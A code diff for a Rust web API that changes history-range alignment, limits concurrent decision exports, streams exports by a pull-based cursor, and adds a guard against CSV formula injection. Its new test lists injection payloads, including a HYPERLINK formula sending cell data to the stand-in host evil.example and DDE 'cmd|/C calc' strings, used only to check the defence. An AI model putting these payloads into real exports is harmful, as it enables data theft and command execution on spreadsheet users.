@@ -16,6 +16,7 @@ use shared::history::{
     DECISION_TIME_BOUNDS_MS, DecisionPage, History, LATENCY_BOUNDS_MS, MAX_POINTS, Step, TierSeries,
 };
 use shared::{Complexity, RoutingDecision, Tier};
+use tokio::sync::OwnedSemaphorePermit;
 
 use crate::AppState;
 use crate::error::ApiError;
@@ -132,11 +133,11 @@ pub const RELATIVE_PATTERN: &str = "^(now|(now)?-[0-9]{1,6}[smhdw])$";
     params(
         ("from" = Option<String>, Query, description = "Start: RFC 3339, Unix seconds or ms, `now` or `-DURATION` (`-24h`), from 1970-01-01T00:00:00Z to 9999-12-31T00:00:00Z; default 24 hours before `to`"),
         ("to" = Option<String>, Query, description = "End (exclusive), in the same forms; default now"),
-        ("step" = Option<String>, Query, description = "`1m`, `5m`, `1h` or `1d`; default the shortest that fits in 1440 points", example = "1h"),
+        ("step" = Option<String>, Query, description = "`1m`, `5m`, `1h` or `1d`; default the shortest whose steps in the span number at most 1440", example = "1h"),
     ),
     responses(
-        (status = 200, description = "One value per step in each series, per tier; steps are aligned to the epoch (UTC), the newest holding `to`", body = History),
-        (status = 400, description = "A bad or out-of-range time or step, `from` not before `to`, or more than 1440 points", body = crate::error::ErrorBody),
+        (status = 200, description = "One value per step in each series, per tier; steps are aligned to the epoch (UTC), the first holding `from` and the newest `to` (a range off the step's boundaries has one point more than its span in steps)", body = History),
+        (status = 400, description = "A bad or out-of-range time or step, `from` not before `to`, or a span of more than 1440 steps", body = crate::error::ErrorBody),
         (status = 404, description = "The server runs with --in-memory: there is no stored history", body = crate::error::ErrorBody),
     )
 )]
@@ -168,8 +169,8 @@ pub async fn history(State(state): State<AppState>, req: Request) -> Result<Resp
         None => Step::fitting(span_minutes),
     };
     let m = step.minutes();
-    let n = step.points(span_minutes);
-    if n > MAX_POINTS {
+    if step.points(span_minutes) > MAX_POINTS {
+        let n = step.points(span_minutes);
         return Err(ApiError::BadParameter(format!(
             "{n} points of {} from {} to {}: at most {MAX_POINTS}; use a longer step or a shorter range",
             step.name(),
@@ -177,10 +178,11 @@ pub async fn history(State(state): State<AppState>, req: Request) -> Result<Resp
             to.to_rfc3339()
         )));
     }
-    // The newest step holds `to`; n steps back from it.
-    let last = shared::history::minute_of(to_ms - 1).div_euclid(m);
-    let first = (last - n + 1) * m;
-    let end = (last + 1) * m;
+    // The points cover [from, to]: the first holds `from`, the newest `to`
+    // (a range off the step's boundaries takes one point more than its
+    // span in steps).
+    let (first, n) = shared::history::aligned(from_ms, to_ms, step);
+    let end = first + n * m;
     let store = store(&state)?;
     let mut rows = tokio::task::spawn_blocking(move || store.rollups(first, end, m))
         .await
@@ -390,6 +392,8 @@ fn parse_log_query(pairs: &[(String, String)]) -> Result<LogQuery, ApiError> {
          )),
         (status = 400, description = "A bad parameter", body = crate::error::ErrorBody),
         (status = 404, description = "The server runs with --in-memory: there is no stored log", body = crate::error::ErrorBody),
+        (status = 503, description = "`--max-exports` exports are being sent already; retry after `Retry-After` seconds", body = crate::error::ErrorBody,
+         headers(("Retry-After" = u64, description = "Seconds to wait"))),
     )
 )]
 pub async fn decisions(State(state): State<AppState>, req: Request) -> Result<Response, ApiError> {
@@ -414,44 +418,77 @@ pub async fn decisions(State(state): State<AppState>, req: Request) -> Result<Re
             })
             .into_response())
         }
-        format => Ok(export(store, query, format)),
+        format => {
+            let permit = state
+                .exports
+                .try_take()
+                .ok_or(ApiError::TooManyExports(state.exports.max()))?;
+            Ok(export(store, query, format, permit))
+        }
     }
 }
 
+/// Where an export has got to.
+struct Cursor {
+    store: Arc<Store>,
+    query: LogQuery,
+    format: Format,
+    /// Rows still allowed by `limit`.
+    left: usize,
+    first: bool,
+    /// One of the `--max-exports` places, held until the body is done or
+    /// dropped (a client gone, or one that stopped reading and hit the
+    /// connection's write timeout).
+    _place: OwnedSemaphorePermit,
+}
+
 /// Streams every matching decision, a chunk at a time read by keyset from
-/// the store: memory stays flat whatever the export's size.
-fn export(store: Arc<Store>, query: LogQuery, format: Format) -> Response {
-    let (tx, rx) = tokio::sync::mpsc::channel::<Result<Bytes, std::io::Error>>(4);
-    tokio::task::spawn_blocking(move || {
-        let mut before = query.before;
-        let mut left = query.limit.unwrap_or(usize::MAX);
-        let mut first = true;
-        while left > 0 {
-            let chunk = EXPORT_CHUNK.min(left);
-            let rows = match store.page(&query.filter, before, chunk) {
-                Ok(rows) => rows,
-                Err(e) => {
-                    let _ = tx.blocking_send(Err(std::io::Error::other(e.to_string())));
-                    return;
-                }
-            };
-            let bytes = match format {
-                Format::Csv => csv_chunk(&rows, first),
-                _ => ndjson_chunk(&rows),
-            };
-            first = false;
-            if !bytes.is_empty() && tx.blocking_send(Ok(Bytes::from(bytes))).is_err() {
-                return; // the client went away
-            }
-            left -= rows.len();
-            match rows.last() {
-                Some(last) if rows.len() == chunk => before = last.seq,
-                _ => return,
-            }
+/// the store: memory stays flat whatever the export's size. The body pulls:
+/// the next chunk is read (on a blocking thread, for that read only) when
+/// the connection asks for it, so a client that reads slowly, or not at
+/// all, holds no thread and at most one chunk.
+fn export(
+    store: Arc<Store>,
+    query: LogQuery,
+    format: Format,
+    place: OwnedSemaphorePermit,
+) -> Response {
+    let cursor = Cursor {
+        store,
+        left: query.limit.unwrap_or(usize::MAX),
+        query,
+        format,
+        first: true,
+        _place: place,
+    };
+    let stream = futures_util::stream::unfold(Some(cursor), |cursor| async move {
+        let mut c = cursor?;
+        if c.left == 0 {
+            return None;
         }
-    });
-    let stream = futures_util::stream::unfold(rx, |mut rx| async move {
-        rx.recv().await.map(|item| (item, rx))
+        let chunk = EXPORT_CHUNK.min(c.left);
+        let (store, filter, before) =
+            (Arc::clone(&c.store), c.query.filter.clone(), c.query.before);
+        let read = tokio::task::spawn_blocking(move || store.page(&filter, before, chunk)).await;
+        let rows = match read {
+            Ok(Ok(rows)) => rows,
+            Ok(Err(e)) => return Some((Err(std::io::Error::other(e.to_string())), None)),
+            Err(e) => return Some((Err(std::io::Error::other(e.to_string())), None)),
+        };
+        let bytes = match c.format {
+            Format::Csv => csv_chunk(&rows, c.first),
+            _ => ndjson_chunk(&rows),
+        };
+        c.first = false;
+        c.left -= rows.len();
+        let next = match rows.last() {
+            Some(last) if rows.len() == chunk => {
+                c.query.before = last.seq;
+                Some(c)
+            }
+            _ => None,
+        };
+        Some((Ok::<_, std::io::Error>(Bytes::from(bytes)), next))
     });
     let (content_type, name) = match format {
         Format::Csv => ("text/csv", "decisions.csv"),
@@ -497,6 +534,17 @@ pub const CSV_HEADER: [&str; 13] = [
     "query",
 ];
 
+/// A text cell a spreadsheet cannot take for a formula: one that begins
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`
+/// (OWASP's advice on CSV injection), which spreadsheets show as text.
+/// Numbers are written by us and never need it; NDJSON is left as is.
+pub fn cell(text: &str) -> String {
+    match text.as_bytes().first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{text}"),
+        _ => text.to_owned(),
+    }
+}
+
 fn csv_chunk(rows: &[RoutingDecision], header: bool) -> Vec<u8> {
     let mut w = csv::Writer::from_writer(Vec::with_capacity(rows.len() * 200));
     let mut put = || -> csv::Result<()> {
@@ -507,11 +555,11 @@ fn csv_chunk(rows: &[RoutingDecision], header: bool) -> Vec<u8> {
             let opt = |v: Option<u64>| v.map(|n| n.to_string()).unwrap_or_default();
             w.write_record([
                 d.seq.to_string(),
-                d.id.clone(),
+                cell(&d.id),
                 d.timestamp
                     .to_rfc3339_opts(chrono::SecondsFormat::Millis, true),
                 d.tier.label().to_owned(),
-                d.tier_name.clone(),
+                cell(&d.tier_name),
                 d.complexity.label().to_owned(),
                 d.score.to_string(),
                 d.mode.map(Mode::name).unwrap_or_default().to_owned(),
@@ -522,9 +570,9 @@ fn csv_chunk(rows: &[RoutingDecision], header: bool) -> Vec<u8> {
                 opt(d.usage.map(|u| u.completion_tokens)),
                 d.signals
                     .as_ref()
-                    .map(|s| serde_json::to_string(s).unwrap_or_default())
+                    .map(|s| cell(&serde_json::to_string(s).unwrap_or_default()))
                     .unwrap_or_default(),
-                d.query.clone(),
+                cell(&d.query),
             ])?;
         }
         w.flush()?;
@@ -642,5 +690,37 @@ mod tests {
         let row = r.records().next().unwrap().unwrap();
         assert_eq!(&row[12], "a, \"quoted\"\nline");
         assert_eq!(&row[3], "Q3");
+    }
+
+    #[test]
+    fn csv_cells_never_start_a_formula() {
+        for payload in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click me\")",
+            "@SUM(1+1)*cmd|'/C calc'!A0",
+            "+cmd|' /C calc'!A0",
+            "-2+3+cmd|'/C notepad'!A1",
+            "\tx=1",
+            "\r=1",
+        ] {
+            let d = RoutingDecision::new(
+                "i-1".into(),
+                payload,
+                Tier::Q2,
+                1.0,
+                Utc.timestamp_opt(0, 0).unwrap(),
+            )
+            .unwrap();
+            let text = String::from_utf8(csv_chunk(&[d], true)).unwrap();
+            let mut r = csv::Reader::from_reader(text.as_bytes());
+            let row = r.records().next().unwrap().unwrap();
+            let shown = &row[12];
+            assert!(shown.starts_with('\''), "{payload:?} came out as {shown:?}");
+            assert_eq!(&shown[1..], shared::stored_query(payload).unwrap());
+            for c in &row {
+                assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "{c:?}");
+            }
+        }
+        assert_eq!(cell("plain"), "plain");
+        assert_eq!(cell("a=b"), "a=b");
     }
 }
